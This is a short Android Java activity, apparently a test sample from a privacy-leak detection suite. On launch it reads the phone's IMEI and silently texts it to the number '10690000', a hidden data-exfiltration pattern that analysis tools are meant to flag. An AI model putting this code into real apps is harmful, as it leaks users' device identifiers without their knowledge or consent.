package cn.privlens.suite.content_values;

import android.app.Activity;
import android.content.ContentValues;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        ContentValues row = new ContentValues();
        row.put("imei", ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId());
        row.put("when", System.currentTimeMillis());
        SmsManager.getDefault().sendTextMessage("10690000", null, row.getAsString("imei"), null, null);
    }
}
